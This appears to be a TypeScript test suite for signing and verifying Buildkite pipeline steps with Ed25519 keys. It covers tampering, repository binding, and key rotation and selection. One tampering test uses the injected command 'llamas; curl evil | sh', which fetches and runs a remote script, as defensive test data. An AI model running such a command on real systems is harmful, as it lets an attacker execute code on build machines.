import assert from "node:assert/strict";
import { generateKeyPairSync } from "node:crypto";
import { describe, it } from "node:test";
import { parseJwks, signStep, signingKeyOf, verifyStep } from "../../components/signing";
import { AGENT_TEST_PRIVATE_JWKS, AGENT_TEST_PUBLIC_JWKS, VECTOR_STEP } from "./fixtures";

/* Our verifier (the code the agent's vectors check) refuses what the agent refuses, and takes a rotated set. */

function keyPair(kid: string): { privateJwks: string; publicKey: Record<string, unknown> } {
    const { privateKey } = generateKeyPairSync("ed25519");
    const jwk = privateKey.export({ format: "jwk" });
    return {
        privateJwks: JSON.stringify({ keys: [{ ...jwk, kid, alg: "EdDSA" }] }),
        publicKey: { kty: "OKP", crv: "Ed25519", x: jwk.x, kid, alg: "EdDSA" },
    };
}

const context = { repositoryUrl: "git@github.com:org/repo.git", outerEnv: { TEAM: "kolibri" } };
const jobEnv = { repositoryUrl: context.repositoryUrl, outerEnv: { TEAM: "kolibri", BUILDKITE_BUILD_ID: "b" } };
const agentKeys = () => parseJwks(AGENT_TEST_PUBLIC_JWKS, false);
const signed = () => signStep(VECTOR_STEP, context, signingKeyOf(AGENT_TEST_PRIVATE_JWKS));

describe("verification of a signed step", () => {
    it("verifies the step as signed, binding the pipeline's variables", () => {
        const signature = signed();
        assert.ok(signature.signed_fields.includes("env::TEAM"));
        assert.equal(verifyStep(VECTOR_STEP, signature, jobEnv, agentKeys()), undefined);
    });
    it("is deterministic: the same step and key sign to the same value", () => {
        assert.equal(signed().value, signed().value);
    });
    it("fails for a changed command", () => {
        const step = { ...VECTOR_STEP, commands: ["llamas; curl evil | sh"] };
        assert.equal(verifyStep(step, signed(), jobEnv, agentKeys()), "the signature does not verify");
    });
    it("fails for a changed step env", () => {
        const step = { ...VECTOR_STEP, env: { ...VECTOR_STEP.env, DEPLOY: "1" } };
        assert.equal(verifyStep(step, signed(), jobEnv, agentKeys()), "the signature does not verify");
    });
    it("fails for a changed pipeline variable in the job's env", () => {
        const job = { ...jobEnv, outerEnv: { ...jobEnv.outerEnv, TEAM: "other" } };
        assert.equal(verifyStep(VECTOR_STEP, signed(), job, agentKeys()), "the signature does not verify");
    });
    it("fails for a changed plugin, and for an added one", () => {
        const changed = {
            ...VECTOR_STEP,
            plugins: [VECTOR_STEP.plugins[0], { "another-plugin#v3.4.5": { llama: "Yzma" } }],
        };
        const added = { ...VECTOR_STEP, plugins: [...VECTOR_STEP.plugins, { "docker#v5.13.0": { image: "x" } }] };
        assert.equal(verifyStep(changed, signed(), jobEnv, agentKeys()), "the signature does not verify");
        assert.equal(verifyStep(added, signed(), jobEnv, agentKeys()), "the signature does not verify");
    });
    it("fails for another repository", () => {
        const job = { ...jobEnv, repositoryUrl: "git@github.com:evil/repo.git" };
        assert.equal(verifyStep(VECTOR_STEP, signed(), job, agentKeys()), "the signature does not verify");
    });
    it("fails when signed_fields leave out a required field", () => {
        const signature = { ...signed(), signed_fields: ["command", "env", "matrix", "plugins"] };
        assert.match(verifyStep(VECTOR_STEP, signature, jobEnv, agentKeys()) ?? "", /does not cover repository_url/);
    });
    it("fails without a signature", () => {
        assert.equal(verifyStep(VECTOR_STEP, undefined, jobEnv, agentKeys()), "the step has no signature");
    });
    it("fails for a step signed with another key, even one that claims the same kid", () => {
        const other = keyPair("TEST_DO_NOT_USE");
        const signature = signStep(VECTOR_STEP, context, signingKeyOf(other.privateJwks));
        assert.equal(verifyStep(VECTOR_STEP, signature, jobEnv, agentKeys()), "the signature does not verify");
    });
    it("a rotation: a set of the old and the new key verifies both signatures, the new set alone only the new", () => {
        const old = keyPair("2025");
        const next = keyPair("2026");
        const both = parseJwks(JSON.stringify({ keys: [old.publicKey, next.publicKey] }), false);
        const byOld = signStep(VECTOR_STEP, context, signingKeyOf(old.privateJwks));
        const byNew = signStep(VECTOR_STEP, context, signingKeyOf(next.privateJwks));
        assert.equal(verifyStep(VECTOR_STEP, byOld, jobEnv, both), undefined);
        assert.equal(verifyStep(VECTOR_STEP, byNew, jobEnv, both), undefined);
        const newOnly = parseJwks(JSON.stringify({ keys: [next.publicKey] }), false);
        assert.equal(verifyStep(VECTOR_STEP, byOld, jobEnv, newOnly), "the signature does not verify");
    });
});

describe("key sets", () => {
    it("refuses a private key in a verification set, naming no key material", () => {
        assert.throws(
            () => parseJwks(AGENT_TEST_PRIVATE_JWKS, false),
            (e: Error) => /holds a private key/.test(e.message) && !e.message.includes("4Gyw"),
        );
    });
    it("refuses keys that are not Ed25519, and a set without the private part when signing", () => {
        assert.throws(
            () => parseJwks('{"keys":[{"kty":"EC","crv":"P-256","kid":"a","x":"","y":""}]}', false),
            /not an Ed25519 key/,
        );
        assert.throws(() => signingKeyOf(AGENT_TEST_PUBLIC_JWKS), /no 32-byte private "d"/);
    });
    it("refuses a private key without alg, which the agent's pipeline upload would refuse", () => {
        const key = (JSON.parse(AGENT_TEST_PRIVATE_JWKS) as { keys: Record<string, unknown>[] }).keys[0];
        const { alg: _alg, ...withoutAlg } = key;
        void _alg;
        assert.throws(() => signingKeyOf(JSON.stringify({ keys: [withoutAlg] })), /has no "alg"/);
        // A verification set may leave it out: the program writes alg into the set the agents get (publicJwks).
        const { d: _d, ...publicWithoutAlg } = withoutAlg;
        void _d;
        assert.equal(parseJwks(JSON.stringify({ keys: [publicWithoutAlg] }), false).length, 1);
    });
    it("picks the signing key by kid from a set of several, and asks for one when none is named", () => {
        const a = keyPair("a");
        const b = keyPair("b");
        const keys = JSON.stringify({ keys: [...JSON.parse(a.privateJwks).keys, ...JSON.parse(b.privateJwks).keys] });
        assert.equal(signingKeyOf(keys, "b").kid, "b");
        assert.throws(() => signingKeyOf(keys), /name the signing key's kid/);
        assert.throws(() => signingKeyOf(keys, "c"), /no key with kid "c"/);
    });
});
